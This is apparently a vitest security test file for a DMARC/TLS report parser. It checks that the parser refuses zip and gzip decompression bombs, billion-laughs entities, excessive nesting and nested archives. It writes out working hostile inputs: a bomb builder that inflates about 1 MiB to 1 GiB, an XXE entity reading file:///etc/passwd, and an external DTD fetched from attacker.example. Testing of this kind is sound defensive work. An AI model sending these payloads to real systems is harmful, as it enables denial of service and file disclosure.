// Hostile inputs: each must be refused with its reason in under 2 s and with under 64 MiB of memory
// growth; a legitimate 100,000-record report must parse within the same memory bound. Kept in its own
// file (its own worker process) so the RSS high-water mark it measures is its own.
import fs from "node:fs";
import v8 from "node:v8";
import vm from "node:vm";
import zlib from "node:zlib";

import { beforeAll, describe, expect, it } from "vitest";

import { type ParseReportOptions, type ParseReportResult, parseReport } from "./parse-report.ts";
import { syntheticAggregateGzip } from "./synthetic-aggregate.ts";

const MIB = 1024 * 1024;
const MAX_GROWTH_BYTES = 64 * MIB;
const MAX_REJECT_MS = 2000;
const BOMB_INFLATED_BYTES = 1024 * MIB;

v8.setFlagsFromString("--expose-gc");
const gc = vm.runInNewContext("gc") as () => void;

/** Linux: writing 5 to clear_refs resets VmHWM (peak RSS) to the current RSS, so the peak is this run's. */
function resetPeakRss(): boolean {
  try {
    fs.writeFileSync("/proc/self/clear_refs", "5");
    return true;
  } catch {
    return false;
  }
}

function peakRss(): number {
  const match = /VmHWM:\s+(\d+) kB/.exec(fs.readFileSync("/proc/self/status", "utf8"));
  return match ? Number(match[1]) * 1024 : process.memoryUsage().rss;
}

interface Measured {
  result: ParseReportResult;
  ms: number;
  rssGrowth: number;
  heapGrowth: number;
}

async function measure(input: Buffer, opts?: ParseReportOptions): Promise<Measured> {
  gc();
  const rss0 = process.memoryUsage().rss;
  const heap0 = process.memoryUsage().heapUsed;
  const exactPeak = resetPeakRss();
  let sampledPeak = rss0;
  const sampler = setInterval(() => (sampledPeak = Math.max(sampledPeak, process.memoryUsage().rss)), 5);
  const t0 = performance.now();
  const result = await parseReport(input, opts);
  const ms = performance.now() - t0;
  clearInterval(sampler);
  const heapGrowth = process.memoryUsage().heapUsed - heap0;
  const peak = exactPeak ? peakRss() : Math.max(sampledPeak, process.memoryUsage().rss);
  return { result, ms, rssGrowth: peak - rss0, heapGrowth };
}

function expectRejectedWithinBounds(m: Measured, reason: string): void {
  expect(m.result.ok ? "accepted" : m.result.reason).toBe(reason);
  expect(m.ms).toBeLessThan(MAX_REJECT_MS);
  expect(m.rssGrowth).toBeLessThan(MAX_GROWTH_BYTES);
  expect(m.heapGrowth).toBeLessThan(MAX_GROWTH_BYTES);
}

/**
 * Raw deflate of `prefix` followed by 1 GiB of `unit` repeated, built without ever holding the 1 GiB:
 * one 16 MiB segment is deflated with a full flush (byte-aligned, no back-references across it), the
 * compressed segment is repeated 64 times, and an empty final block closes the stream.
 */
function deflatedBomb(unit: Buffer, prefix = Buffer.alloc(0)): { raw: Buffer; crc: number; size: number } {
  const segmentBytes = 16 * MIB;
  const segmentPlain = Buffer.alloc(segmentBytes, unit);
  const flush = { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH };
  const head = zlib.deflateRawSync(prefix, flush);
  const segment = zlib.deflateRawSync(segmentPlain, flush);
  const finalBlock = zlib.deflateRawSync(Buffer.alloc(0));
  const segments = BOMB_INFLATED_BYTES / segmentBytes;
  let crc = zlib.crc32(prefix);
  for (let i = 0; i < segments; i++) crc = zlib.crc32(segmentPlain, crc);
  return {
    raw: Buffer.concat([head, ...Array<Buffer>(segments).fill(segment), finalBlock]),
    crc,
    size: prefix.length + BOMB_INFLATED_BYTES,
  };
}

function gzipOf(raw: Buffer, crc: number, size: number): Buffer {
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc >>> 0, 0);
  trailer.writeUInt32LE(size >>> 0, 4);
  return Buffer.concat([header, raw, trailer]);
}

/** A single-member zip (APPNOTE 4.3.7 local header, 4.3.12 central directory, 4.3.16 end record). */
function zipOf(members: { name: string; data: Buffer; method: 0 | 8; crc: number; size: number }[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const m of members) {
    const name = Buffer.from(m.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(m.method, 8);
    local.writeUInt32LE(m.crc >>> 0, 14);
    local.writeUInt32LE(m.data.length, 18);
    local.writeUInt32LE(m.size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(m.method, 10);
    dir.writeUInt32LE(m.crc >>> 0, 16);
    dir.writeUInt32LE(m.data.length, 20);
    dir.writeUInt32LE(m.size >>> 0, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    parts.push(local, name, m.data);
    central.push(dir, name);
    offset += local.length + name.length + m.data.length;
  }
  const centralBytes = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(centralBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, centralBytes, end]);
}

const SMALL_REPORT = Buffer.from(
  `<?xml version="1.0"?><feedback><report_metadata><org_name>x</org_name><report_id>1</report_id><date_range><begin>1</begin><end>2</end></date_range></report_metadata>` +
    `<policy_published><domain>example.com</domain><p>none</p></policy_published></feedback>`,
);

function storedMember(name: string, data: Buffer) {
  return { name, data, method: 0 as const, crc: zlib.crc32(data), size: data.length };
}

describe("bombs and hostile inputs", () => {
  let gzipBomb: Buffer;
  let zipBomb: Buffer;
  let gzipMarkupBomb: Buffer;
  let zipMarkupBomb: Buffer;
  let largeReport: Buffer;

  beforeAll(() => {
    const zeros = deflatedBomb(Buffer.from([0]));
    gzipBomb = gzipOf(zeros.raw, zeros.crc, zeros.size);
    zipBomb = zipOf([{ name: "report.xml", data: zeros.raw, method: 8, crc: zeros.crc, size: zeros.size }]);
    // The same gigabyte as well-formed XML (an unknown element with whitespace, 1 KiB each), which the
    // sniffer and the XML parser accept, so only the inflated-size cap can stop it.
    const markup = deflatedBomb(Buffer.from(`<r>${" ".repeat(1017)}</r>`), Buffer.from(`<?xml version="1.0"?><feedback>`));
    gzipMarkupBomb = gzipOf(markup.raw, markup.crc, markup.size);
    zipMarkupBomb = zipOf([{ name: "report.xml", data: markup.raw, method: 8, crc: markup.crc, size: markup.size }]);
    largeReport = syntheticAggregateGzip({ seed: 42, records: 100_000 });
  });

  it("builds a genuine bomb: ~1 MiB that inflates to 1 GiB", async () => {
    expect(gzipBomb.length).toBeLessThan(2 * MIB);
    expect(gzipMarkupBomb.length).toBeLessThan(4 * MIB);
    let inflated = 0;
    const gunzip = zlib.createGunzip({ chunkSize: 4 * MIB });
    gunzip.on("data", (chunk: Buffer) => (inflated += chunk.length));
    await new Promise<void>((resolve, reject) => {
      gunzip.on("end", resolve).on("error", reject);
      gunzip.end(gzipBomb);
    });
    expect(inflated).toBe(BOMB_INFLATED_BYTES);
  });

  it("stops a 1 GiB-of-zeros gzip at the 25 MiB inflated cap", async () => {
    const m = await measure(gzipBomb);
    expectRejectedWithinBounds(m, "bomb");
    expect(m.result.ok ? "" : m.result.message).toContain(String(25 * MIB));
  });

  it("stops a 1 GiB-of-zeros zip member at the inflated cap", async () => {
    expectRejectedWithinBounds(await measure(zipBomb), "bomb");
  });

  it("stops a gzip bomb hidden in a second gzip layer", async () => {
    expectRejectedWithinBounds(await measure(zlib.gzipSync(gzipBomb)), "bomb");
  });

  it("stops a 1 GiB gzip of well-formed XML at the 25 MiB inflated cap", async () => {
    const m = await measure(gzipMarkupBomb);
    expectRejectedWithinBounds(m, "bomb");
    expect(m.result.ok ? "" : m.result.message).toContain(String(25 * MIB));
  });

  it("stops a 1 GiB zip member of well-formed XML at the inflated cap", async () => {
    expectRejectedWithinBounds(await measure(zipMarkupBomb), "bomb");
  });

  it("refuses XML with a markup-free run longer than saxes should buffer", async () => {
    const m = await measure(zlib.gzipSync(`<feedback><org_name>${" ".repeat(2 * MIB)}</org_name></feedback>`));
    expectRejectedWithinBounds(m, "malformed");
  });

  it("refuses a JSON report larger than any TLS report", async () => {
    const m = await measure(zlib.gzipSync(`{"report-id":"x","policies":[]${" ".repeat(6 * MIB)}}`));
    expectRejectedWithinBounds(m, "too_large");
  });

  it("stops the gzip bomb inside a report email", async () => {
    const email = Buffer.concat([
      Buffer.from(
        "From: dmarc@reporter.example\r\nTo: rua@example.com\r\nSubject: Report\r\nMIME-Version: 1.0\r\nContent-Type: application/gzip; name=r.xml.gz\r\nContent-Transfer-Encoding: base64\r\n\r\n",
      ),
      Buffer.from(gzipMarkupBomb.toString("base64").replace(/.{76}/g, "$&\r\n")),
    ]);
    expectRejectedWithinBounds(await measure(email), "bomb");
  });

  it("refuses billion laughs before parsing", async () => {
    const lol = [
      `<!ENTITY lol "lol">`,
      ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`),
    ];
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${lol.join("\n")}\n]>\n<feedback>&lol9;</feedback>`;
    expectRejectedWithinBounds(await measure(Buffer.from(xml)), "doctype_forbidden");
  });

  it("refuses a DOCTYPE with an external entity", async () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>`;
    const m = await measure(Buffer.from(xml));
    expectRejectedWithinBounds(m, "doctype_forbidden");
    expect(m.result.ok ? "" : m.result.message).not.toContain("root:");
  });

  it("refuses a DOCTYPE hidden in a gzip, split across inflate chunks", async () => {
    const padding = " ".repeat(4095);
    const xml = `<?xml version="1.0"?>${padding}<!DOC` + `TYPE feedback SYSTEM "http://attacker.example/x.dtd"><feedback/>`;
    expect((await parseReport(zlib.gzipSync(xml))).ok ? "accepted" : "rejected").toBe("rejected");
    const r = await parseReport(zlib.gzipSync(xml));
    expect(r.ok ? "" : r.reason).toBe("doctype_forbidden");
  });

  it("refuses 10,000-deep XML nesting", async () => {
    const xml = `<feedback>${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}</feedback>`;
    expectRejectedWithinBounds(await measure(Buffer.from(xml)), "too_deep");
  });

  it("refuses 10,000-deep JSON nesting", async () => {
    const json = `{"report-id":"x","policies":${"[".repeat(10_000)}${"]".repeat(10_000)}}`;
    expectRejectedWithinBounds(await measure(Buffer.from(json)), "too_deep");
  });

  it("refuses an input over the size cap without reading it", async () => {
    const big = Buffer.alloc(26 * MIB, 0x20);
    big.write("<feedback>", 0);
    const r = await parseReport(big);
    expect(r.ok ? "" : r.reason).toBe("too_large");
  });

  it("refuses a zip with more than 5 members", async () => {
    const zip = zipOf(Array.from({ length: 6 }, (_, i) => storedMember(`r${i}.xml`, SMALL_REPORT)));
    const r = await parseReport(zip);
    expect(r.ok ? "" : r.reason).toBe("too_many_members");
  });

  it("refuses nested archives: zip in zip, gzip in zip, three gzip layers", async () => {
    const inner = zipOf([storedMember("r.xml", SMALL_REPORT)]);
    const zipInZip = zipOf([storedMember("r.xml.zip", inner)]);
    const zipInZipMisnamed = zipOf([storedMember("r.xml", inner)]);
    const gzipInZip = zipOf([storedMember("r.xml", zlib.gzipSync(SMALL_REPORT))]);
    const threeGzip = zlib.gzipSync(zlib.gzipSync(zlib.gzipSync(SMALL_REPORT)));
    for (const input of [zipInZip, zipInZipMisnamed, gzipInZip, threeGzip]) {
      const r = await parseReport(input);
      expect(r.ok ? "" : r.reason).toBe("nested_archive");
    }
    // Two gzip layers are real-world (tierpod's test.xml.gz.gz) and accepted.
    expect((await parseReport(zlib.gzipSync(zlib.gzipSync(SMALL_REPORT)))).ok).toBe(true);
  });

  it("caps the record count", async () => {
    const input = syntheticAggregateGzip({ seed: 7, records: 50 });
    const r = await parseReport(input, { limits: { maxDmarcRecords: 10 } });
    expect(r.ok ? "" : r.reason).toBe("too_many_records");
  });

  it("turns truncated and corrupt archives into malformed, not crashes", async () => {
    const gz = zlib.gzipSync(SMALL_REPORT);
    const corrupt = Buffer.from(gz);
    corrupt.fill(0xff, 12, 40);
    for (const input of [gz.subarray(0, gz.length - 12), corrupt, zipOf([storedMember("r.xml", SMALL_REPORT)]).subarray(0, 60)]) {
      const r = await parseReport(input);
      expect(r.ok ? "" : r.reason).toBe("malformed");
    }
  });

  it("parses a legitimate 100,000-record gzip report in streaming fashion within the memory bound", async () => {
    const input = largeReport;
    let seen = 0;
    let messages = 0;
    // A 100,000-record report inflates to ~45 MiB, above the 25 MiB default: the operator raises the cap.
    const m = await measure(input, {
      limits: { maxInflatedBytes: 128 * MIB },
      onDmarcRecord: (record) => {
        seen += 1;
        messages += record.count;
      },
    });
    expect(m.result.ok, m.result.ok ? "" : m.result.message).toBe(true);
    if (!m.result.ok || m.result.kind !== "dmarc_aggregate") throw new Error("not parsed");
    expect([m.result.report.recordCount, seen, m.result.report.records.length]).toEqual([100_000, 100_000, 0]);
    expect(m.result.report.messageCount).toBe(messages);
    expect(m.rssGrowth).toBeLessThan(MAX_GROWTH_BYTES);
    expect(m.heapGrowth).toBeLessThan(MAX_GROWTH_BYTES);
  });

  it("refuses the same 100,000-record report under the default 25 MiB inflated cap", async () => {
    const r = await parseReport(largeReport);
    expect(r.ok ? "" : r.reason).toBe("bomb");
  });
});
